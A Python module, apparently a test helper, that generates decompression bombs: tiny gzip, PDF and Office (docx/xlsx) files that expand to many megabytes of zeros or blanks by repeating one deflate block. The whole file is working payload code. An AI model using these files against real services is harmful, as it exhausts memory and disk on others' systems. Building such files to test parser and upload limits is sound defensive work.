"""Small files that unpack to a gigabyte, made in no time: one block, packed once, stands there a thousand times."""

from __future__ import annotations

import io
import os
import struct
import zipfile
import zlib
from functools import cache

MB = 1024 * 1024


@cache
def deflated(megabytes: int, noise: int = 0) -> bytes:
    """A raw deflate stream of so many megabytes, of which `noise` bytes each cannot be packed."""
    stream = zlib.compressobj(9, wbits=-15)
    block = stream.compress(os.urandom(noise) + bytes(MB - noise)) + stream.flush(zlib.Z_FULL_FLUSH)
    return block * megabytes + stream.flush()


def gzip_bomb(megabytes: int, noise: int = 0) -> bytes:
    """A gzip of one member (its checksum, at the very end, is not right)."""
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + deflated(megabytes, noise) + bytes(4) + struct.pack("<I", megabytes * MB)


def pdf_bomb(megabytes: int) -> bytes:
    """A PDF whose only page is drawn by so many megabytes of zeros."""
    packed = b"\x78\xda" + deflated(megabytes) + bytes(4)
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R>>",
        b"<</Length %d/Filter/FlateDecode>>\nstream\n%s\nendstream" % (len(packed), packed),
    ]
    out, places = io.BytesIO(), []
    out.write(b"%PDF-1.4\n")
    for number, body in enumerate(objects, 1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = out.tell()
    out.write(b"xref\n0 5\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places))
    out.write(b"trailer\n<</Size 5/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % start)
    return out.getvalue()


def office_bomb(main: str, megabytes: int) -> bytes:
    """An office file whose main part is so many megabytes of blanks."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", _TYPES.format(main=main, kind=_KINDS[main]))
        archive.writestr("_rels/.rels", _RELATIONS.format(main=main))
        with archive.open(main, "w", force_zip64=True) as part:
            part.write(b'<?xml version="1.0"?><a>')
            block = b" " * MB
            for _ in range(megabytes):
                part.write(block)
            part.write(b"</a>")
    return out.getvalue()


_KINDS = {
    "word/document.xml": "wordprocessingml.document.main",
    "xl/workbook.xml": "spreadsheetml.sheet.main",
}
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_TYPES = (
    f'<?xml version="1.0"?><Types xmlns="{_PACKAGE}/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/{main}" ContentType="application/vnd.openxmlformats-officedocument.{kind}+xml"/></Types>'
)
_RELATIONS = (
    f'<?xml version="1.0"?><Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="r" Target="{{main}}" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>'
)
